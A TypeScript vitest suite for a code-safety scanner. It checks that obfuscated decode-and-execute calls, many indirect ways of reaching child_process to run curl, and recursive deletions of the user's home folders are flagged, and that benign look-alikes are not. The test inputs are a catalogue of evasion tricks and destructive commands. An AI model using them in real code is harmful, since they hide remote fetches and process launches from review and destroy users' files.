/** One deed in many spellings: each is found as its plainest form is, and what only looks like it is not. */
import { describe, expect, it } from 'vitest';
import { findingGroup } from '../../format/finding/finding.ts';
import { deriveCapabilities } from '../capabilities.ts';
import { riskOf } from '../risk.ts';
import { scan } from '../scan.ts';
import { testBuild } from '../test-build.ts';
import { allRules } from './all.ts';

/** The codes of the findings that count, and the risk. */
function judge(code: string, path = 'a.mjs'): string {
  const found = scan(testBuild({ [path]: code }), allRules);
  const codes = found.filter((one) => findingGroup(one) === 'safety' && one.level !== 'info');
  return [riskOf(found), ...new Set(codes.map((one) => one.code))].join(' ');
}

describe('a constructor of functions', () => {
  const code = "atob('ZmV0Y2goImh0dHBzOi8vYy5vdGhlci1tZXRyaWNzLmNvbS94Iik7')";
  it.each([
    `(async () => {}).constructor(${code})()`,
    `Object.getPrototypeOf(async () => {}).constructor('a', ${code})()`,
    `Object.getPrototypeOf(function* () {}).constructor(${code})().next()`,
    `Reflect.getPrototypeOf(async function* () {})['constructor'](${code})()`,
    `(() => {}).__proto__.constructor(${code})()`,
    `const { constructor: F } = async () => {}; new F(${code})()`,
    `Reflect.get(() => {}, 'constructor')(${code})()`,
    `Reflect.construct(Object.getPrototypeOf(() => {}).constructor, [${code}], Object)()`,
    `const { value } = Object.getOwnPropertyDescriptor(() => {}, 'constructor'); value(${code})`,
    `Object.getPrototypeOf(async () => {}).constructor.call(null, ${code})()`,
  ])('%s', (text) => {
    expect(judge(text)).toBe('danger decode-execute');
  });
  it.each([
    `class A { again() { return new this.constructor(${code}); } }`,
    `Object.getPrototypeOf(this).constructor(${code})`,
    `Object.getPrototypeOf(async () => {}).constructor.name + ${code}`,
    `const isAsync = (f) => f instanceof Object.getPrototypeOf(async () => {}).constructor; ${code}`,
  ])('not %s', (text) => {
    expect(judge(text)).toBe('ok');
  });
});

describe('a module of the platform', () => {
  const run = ".execSync('curl x.io')";
  it.each([
    `process.getBuiltinModule('node:child_process')${run}`,
    `const { process: p } = globalThis; p['getBuiltin' + 'Module']('child_process')${run}`,
    `import { getBuiltinModule as get } from 'node:process'; get('child_process')${run}`,
    `Reflect.apply(process.getBuiltinModule, process, ['child_process'])${run}`,
    `import { Module as M } from 'module'; M.createRequire('/')('child_process')${run}`,
    `process.mainModule.constructor._load('child_process')${run}`,
    `require.main.require('child_process')${run}`,
    `module.parent.require('child_process')${run}`,
    `new (require('module'))('a').require('child_process')${run}`,
    `Function.prototype.call.call(require, null, 'child_process')${run}`,
    `const r = require; r(['child', 'process'].join('_'))${run}`,
    `import.meta.require('child_process')${run}`,
    `(await import('node:child_process'))${run}`,
    "process.binding('spawn_sync').spawn({ file: 'curl', args: ['x.io'] })",
    "new (process._linkedBinding('process_wrap').Process)().spawn({ file: 'curl' })",
    "import { execa as run } from 'execa'; run('curl x.io')",
  ])('starts a process, in a file and in a wired block: %s', (text) => {
    const [none, code] = [testBuild({}), testBuild({ 'a.ts': text })];
    expect(deriveCapabilities(code).processes).toEqual(['curl']);
    expect(deriveCapabilities(none, code).processes).toEqual(['curl']);
  });
  it.each([
    "process.getBuiltinModule('node:path').join('curl', 'x.io')",
    `const module = { parent: {} }; module.parent.require('child_process')${run}`,
    `import { createRequire } from 'module'; createRequire('/').resolve('child_process')`,
  ])('starts none: %s', (text) => {
    expect(deriveCapabilities(testBuild({ 'a.ts': text })).processes).toEqual([]);
  });
});

describe('a deletion of what the user has', () => {
  const imports = `import fs from 'node:fs'; import { rm } from 'fs/promises'; import os from 'os';
import { join, resolve } from 'path'; import { execSync, execFile } from 'child_process'; const { homedir, userInfo } = os; const all = { recursive: true };`;
  it.each([
    'rm(join(homedir(), "Documents"), all)',
    'rm(join(homedir(), "."), all)',
    'await fs.promises.rm(`${os.homedir()}/Desktop`, all)',
    'fs.rmSync(resolve(process.env.HOME, "Pictures"), all)',
    'rm(process.env.USERPROFILE ?? homedir(), all)',
    'rm(userInfo().homedir, all)',
    'for (const d of ["Documents", "Desktop"]) rm(join(homedir(), d), all)',
    'import { rimrafSync } from "rimraf"; rimrafSync(homedir() + "/*")',
    'import fse from "fs-extra"; fse.remove(join(homedir(), "AppData"))',
    'import { deleteAsync } from "del"; deleteAsync([`${homedir()}/**`], { force: true })',
    'import sh from "shelljs"; sh.rm("-rf", homedir())',
    'Deno.remove(process.env.HOME, all)',
    'execSync("rm -rf " + homedir() + "/Documents")',
    'execFile("rm", ["-rf", homedir()])',
  ])('%s', (text) => {
    expect(judge(`${imports}\n${text}`)).toMatch(/^caution destructive/);
  });
  it.each([
    'rm(join(homedir(), ".cache", "x"), all)',
    'rm(join(homedir(), "Documents", "x.tmp"), all)',
    'fs.unlinkSync(join(homedir(), "Documents"))',
    'rm(process.env.HOME ? join(process.env.HOME, ".x") : "/", all)',
    'fs.readdirSync(homedir()).forEach((f) => rm(join(process.env.CACHE, f), all))',
  ])('not %s', (text) => {
    expect(judge(`${imports}\n${text}`)).toBe('ok');
  });
});
